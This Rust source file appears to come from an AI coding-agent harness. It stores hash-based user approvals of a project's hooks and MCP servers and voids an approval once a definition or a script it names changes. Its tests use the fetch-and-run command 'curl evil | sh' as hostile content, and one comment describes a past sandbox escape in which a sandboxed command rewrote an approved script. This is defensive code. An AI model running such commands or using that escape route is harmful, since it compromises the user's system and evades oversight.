//! Approval of a trusted project's own extensions (CONTRACT "Folder trust"): even in a trusted
//! folder, the project's hooks and MCP servers run only once the user approved them, and again
//! after their definition changes. `$HARNESS9_HOME/approved.json` remembers each approval as the
//! folder, the kind, the name and a SHA-256 of the definition, so an edited definition (a
//! `git pull` that changes a hook's command) is a new, unapproved one. This is the one place
//! that decides it for every kind of extension.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::trust::TrustError;

/// The file's name under `$HARNESS9_HOME`.
pub const APPROVED_FILE: &str = "approved.json";

/// What kind of project extension an approval is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ExtensionKind {
    /// A project's hooks (one approval covers the hooks of one settings file, by its name).
    Hooks,
    /// One MCP server of the project's `.mcp.json`, by its name.
    McpServer,
    /// The server a project's `.env` names (`OPENAI_BASE_URL`...) for a key that comes from the
    /// environment: by the variable's name, hashed over the URL (issue 29 point 4).
    BaseUrl,
}

/// A project extension found in a trusted folder and not approved (or changed since): the TUI
/// asks about each at start; `exec` and `serve` run it only with `--trust`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PendingExtension {
    pub kind: ExtensionKind,
    pub name: String,
    /// What it would run, in words for the user (a hook's command, a server's command line).
    pub summary: String,
    /// `definition_hash` of its definition, remembered by `approve`.
    pub hash: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Approval {
    workdir: PathBuf,
    kind: ExtensionKind,
    name: String,
    sha256: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct ApprovedFile {
    #[serde(default)]
    approved: Vec<Approval>,
}

/// `value` with every object's keys in sorted order. serde_json keeps a file's key order when
/// a dependency turns on its `preserve_order` feature (the ACP crates do), so the order is made
/// here, as the hashes stored before were made.
fn sorted_keys(value: &serde_json::Value) -> serde_json::Value {
    match value {
        serde_json::Value::Object(map) => {
            let mut keys: Vec<&String> = map.keys().collect();
            keys.sort();
            serde_json::Value::Object(
                keys.into_iter()
                    .map(|key| (key.clone(), sorted_keys(&map[key])))
                    .collect(),
            )
        }
        serde_json::Value::Array(items) => {
            serde_json::Value::Array(items.iter().map(sorted_keys).collect())
        }
        other => other.clone(),
    }
}

/// The hash an approval is remembered by: SHA-256 over the definition's JSON text and over the
/// files in the project (`workdir`, canonical) that it runs (`named_files`), so rewriting a hook's or
/// server's script (from a sandboxed command, say) is a new, unapproved definition. The text
/// hashed has every object's keys sorted (`sorted_keys`), so the same definition written in
/// another key order, or with other whitespace, hashes the same.
pub fn definition_hash(definition: &serde_json::Value, workdir: &Path) -> String {
    let mut hasher = Sha256::new();
    hasher.update(sorted_keys(definition).to_string().as_bytes());
    for (path, state) in named_files(definition, workdir) {
        hasher.update(b"\0");
        hasher.update(path.as_os_str().as_encoded_bytes());
        hasher.update(b"\0");
        hasher.update(state.as_bytes());
    }
    hasher
        .finalize()
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// The variables a hook's command may name the project by.
const PROJECT_VARIABLES: &[&str] = &["HARNESS9_PROJECT_DIR", "CLAUDE_PROJECT_DIR"];

/// Programs that run the script their first operand names.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python3", "node", "deno", "bun", "ruby",
    "perl", "php", "lua", "tsx", "ts-node", "Rscript", "pwsh",
];

/// The files in `workdir` a definition runs, sorted, with what is there now: the SHA-256 of
/// the bytes (through links), `absent`, `dir` or `unreadable`. What runs: every command's
/// program when given as a path (a hook's command lines parsed into simple commands, a
/// server's `command` with its `args`), and the script an interpreter (`sh`, `python3`,
/// `node`...) is given as its first operand. An absent one counts too: a script created later
/// changes the hash.
fn named_files(definition: &serde_json::Value, workdir: &Path) -> Vec<(PathBuf, String)> {
    let mut command_lines: Vec<Vec<String>> = Vec::new();
    if let Some(program) = definition
        .get("command")
        .and_then(serde_json::Value::as_str)
    {
        let args = definition.get("args").and_then(serde_json::Value::as_array);
        let args = args
            .into_iter()
            .flatten()
            .filter_map(serde_json::Value::as_str);
        command_lines.push(
            std::iter::once(program)
                .chain(args)
                .map(str::to_owned)
                .collect(),
        );
    }
    let mut strings = Vec::new();
    collect_strings(definition, &mut strings);
    for text in strings {
        command_lines.extend(
            crate::shell::parse(text)
                .commands
                .into_iter()
                .map(|c| c.words),
        );
    }
    let project = workdir.to_string_lossy();
    let mut named: Vec<PathBuf> = Vec::new();
    for words in &command_lines {
        let Some(program) = words.first() else {
            continue;
        };
        let name = program.rsplit('/').next().unwrap_or(program);
        let script = INTERPRETERS
            .contains(&name)
            .then(|| words[1..].iter().find(|w| !w.starts_with('-')))
            .flatten();
        let run = std::iter::once(program)
            .filter(|p| p.contains('/'))
            .chain(script);
        for word in run {
            // A word with an expansion is kept as written (`"$HARNESS9_PROJECT_DIR"/x.sh`):
            // the project's variables are the one expansion resolved here, quotes dropped.
            let mut word = word.clone();
            for variable in PROJECT_VARIABLES {
                for form in [format!("${{{variable}}}"), format!("${variable}")] {
                    word = word.replace(&form, &project);
                }
            }
            if word.contains('"') {
                word.retain(|c| c != '"');
            }
            let path = crate::files::paths::resolve(workdir, &word);
            if crate::files::paths::is_inside(workdir, &path) && !named.contains(&path) {
                named.push(path);
            }
        }
    }
    named.sort();
    named
        .into_iter()
        .map(|path| {
            let state = match std::fs::read(&path) {
                Ok(bytes) => crate::files::hash_of(&bytes),
                Err(_) if path.is_dir() => "dir".to_owned(),
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => "absent".to_owned(),
                Err(_) => "unreadable".to_owned(),
            };
            (path, state)
        })
        .collect()
}

/// Every string in `value`, at any depth.
fn collect_strings<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
    match value {
        serde_json::Value::String(text) => out.push(text),
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
        serde_json::Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
        _ => {}
    }
}

/// Whether the user approved exactly this definition (`hash`) of the extension `name` of the
/// project at `workdir` (a canonical path). An unreadable file approves nothing.
pub fn is_approved(
    home: &Path,
    workdir: &Path,
    kind: ExtensionKind,
    name: &str,
    hash: &str,
) -> bool {
    match read(home) {
        Ok(file) => file
            .approved
            .iter()
            .any(|a| a.workdir == workdir && a.kind == kind && a.name == name && a.sha256 == hash),
        Err(error) => {
            tracing::warn!("[approved] {error}; no project extension counts as approved");
            false
        }
    }
}

/// Remembers the user's approval of this definition; an older approval of the same extension
/// is replaced. A file that cannot be parsed is left as it is and the error says so.
pub fn approve(
    home: &Path,
    workdir: &Path,
    kind: ExtensionKind,
    name: &str,
    hash: &str,
) -> Result<(), TrustError> {
    let mut file = read(home)?;
    file.approved
        .retain(|a| !(a.workdir == workdir && a.kind == kind && a.name == name));
    file.approved.push(Approval {
        workdir: workdir.to_path_buf(),
        kind,
        name: name.to_owned(),
        sha256: hash.to_owned(),
    });
    let path = home.join(APPROVED_FILE);
    let write_error = |reason: String| TrustError::Write {
        path: path.display().to_string(),
        reason,
    };
    crate::private_home::create_dir(home).map_err(|e| write_error(e.to_string()))?;
    let text = serde_json::to_string_pretty(&file).map_err(|e| write_error(e.to_string()))?;
    // Written beside and renamed over, so a crash never leaves half a file.
    let partial = home.join(format!("{APPROVED_FILE}.partial"));
    std::fs::write(&partial, text + "\n").map_err(|e| write_error(e.to_string()))?;
    std::fs::rename(&partial, &path).map_err(|e| write_error(e.to_string()))
}

fn read(home: &Path) -> Result<ApprovedFile, TrustError> {
    let path = home.join(APPROVED_FILE);
    let read_error = |reason: String| TrustError::Read {
        path: path.display().to_string(),
        reason,
    };
    let text = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(ApprovedFile::default()),
        Err(e) => return Err(read_error(e.to_string())),
    };
    serde_json::from_str(&text).map_err(|e| read_error(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn an_approval_holds_for_that_definition_only() {
        let home = tempfile::tempdir().unwrap();
        let work = Path::new("/srv/repo");
        let hook = json!({"command": "cargo fmt", "timeout": 30});
        let hash = definition_hash(&hook, work);
        let kind = ExtensionKind::Hooks;
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &hash
        ));
        approve(home.path(), work, kind, "settings.json", &hash).unwrap();
        assert!(is_approved(home.path(), work, kind, "settings.json", &hash));
        // Another folder, another kind or name, or a changed definition: not approved.
        assert!(!is_approved(
            home.path(),
            Path::new("/srv/other"),
            kind,
            "settings.json",
            &hash
        ));
        let mcp = ExtensionKind::McpServer;
        assert!(!is_approved(home.path(), work, mcp, "settings.json", &hash));
        let changed = definition_hash(&json!({"command": "curl evil | sh", "timeout": 30}), work);
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &changed
        ));
        // Approving the change replaces the old approval.
        approve(home.path(), work, kind, "settings.json", &changed).unwrap();
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &hash
        ));
        assert!(is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &changed
        ));
    }

    #[test]
    fn key_order_and_whitespace_do_not_change_the_hash() {
        let a: serde_json::Value = serde_json::from_str(r#"{"a": 1, "b": [2, 3]}"#).unwrap();
        let b: serde_json::Value = serde_json::from_str("{\"b\":[2,3],\n\"a\":1}").unwrap();
        let work = Path::new("/srv/repo");
        assert_eq!(definition_hash(&a, work), definition_hash(&b, work));
        // The hash approvals were stored under before serde_json could keep a file's key order:
        // they stay valid.
        assert_eq!(
            definition_hash(&b, work),
            "efbd0040190fb0871831e606c581f8a66db79d8e2bb836745a70051306956070"
        );
    }

    /// Issue 29 point 6: the approval hashed the definition's text only, so a sandboxed command
    /// could rewrite an approved hook's or server's script, which then ran outside the sandbox.
    #[test]
    fn rewriting_a_script_the_definition_names_voids_the_approval() {
        let home = tempfile::tempdir().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let work = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(work.join("hooks")).unwrap();
        std::fs::write(work.join("hooks/fmt.sh"), "cargo fmt\n").unwrap();
        std::fs::write(work.join("server.py"), "print('tools')\n").unwrap();
        let hook = json!({"PostToolUse": [{"hooks": [
            {"type": "command", "command": "sh \"$HARNESS9_PROJECT_DIR\"/hooks/fmt.sh --check"}
        ]}]});
        let server = json!({"command": "python3", "args": ["-u", "server.py"]});
        let kind = ExtensionKind::Hooks;
        for (definition, script) in [(&hook, "hooks/fmt.sh"), (&server, "server.py")] {
            let hash = definition_hash(definition, &work);
            assert_eq!(hash, definition_hash(definition, &work), "stable");
            approve(home.path(), &work, kind, script, &hash).unwrap();
            std::fs::write(work.join(script), "curl evil | sh\n").unwrap();
            let now = definition_hash(definition, &work);
            assert!(
                !is_approved(home.path(), &work, kind, script, &now),
                "{script} rewritten"
            );
        }
        // A script the definition names that appears later changes the hash too.
        let later = json!({"command": "node", "args": ["--enable-source-maps", "dist/index.js"]});
        let before = definition_hash(&later, &work);
        std::fs::create_dir_all(work.join("dist")).unwrap();
        std::fs::write(work.join("dist/index.js"), "evil()\n").unwrap();
        assert_ne!(before, definition_hash(&later, &work));
        // What a hook writes is not what it runs: its approval holds after it ran.
        let touch = json!({"command": "touch hook-ran"});
        let before = definition_hash(&touch, &work);
        std::fs::write(work.join("hook-ran"), "").unwrap();
        assert_eq!(before, definition_hash(&touch, &work));
    }

    #[test]
    fn a_malformed_file_approves_nothing_and_is_not_overwritten() {
        let home = tempfile::tempdir().unwrap();
        let path = home.path().join(APPROVED_FILE);
        std::fs::write(&path, "{not json").unwrap();
        let work = Path::new("/srv/repo");
        assert!(!is_approved(
            home.path(),
            work,
            ExtensionKind::Hooks,
            "x",
            "h"
        ));
        assert!(approve(home.path(), work, ExtensionKind::Hooks, "x", "h").is_err());
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "{not json");
    }
}
